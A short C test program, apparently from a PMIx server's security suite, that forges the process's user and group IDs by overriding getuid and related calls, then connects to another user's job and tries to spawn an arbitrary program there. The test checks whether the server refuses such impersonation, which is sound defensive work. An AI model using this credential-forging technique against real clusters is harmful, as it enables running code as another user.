/* What another user of the node tries: connect to the PMIx server of somebody's job as that job's owner, and start a program there.
 * takeover UID PROGRAM ARG: the numbers that this process gives itself, and what it would have started. The rank's variables are in the
 * environment. The library asks the functions below for the user, and sends the answer to the server. */
#include "check.h"

static uid_t forged;

uid_t getuid(void)
{
    return forged;
}
uid_t geteuid(void)
{
    return forged;
}
gid_t getgid(void)
{
    return forged;
}
gid_t getegid(void)
{
    return forged;
}

int main(int argc, char **argv)
{
    pmix_status_t status;
    pmix_app_t *app;
    char nspace[PMIX_MAX_NSLEN + 1];

    CHECK(argc == 4);
    forged = (uid_t)atoi(argv[1]);
    /* The server's end closes the connection, or never reads from it. */
    alarm(20);
    status = PMIx_Init(&me, NULL, 0);
    if (status != PMIX_SUCCESS) {
        printf("refused: %s\n", PMIx_Error_string(status));
        return 0;
    }
    PMIX_APP_CREATE(app, 1);
    app->cmd = strdup(argv[2]);
    PMIX_ARGV_APPEND(status, app->argv, argv[2]);
    PMIX_ARGV_APPEND(status, app->argv, argv[3]);
    app->maxprocs = 1;
    status = PMIx_Spawn(NULL, 0, app, 1, nspace);
    printf("connected; spawn: %s\n", PMIx_Error_string(status));
    fflush(stdout);
    sleep(2);
    return 0;
}
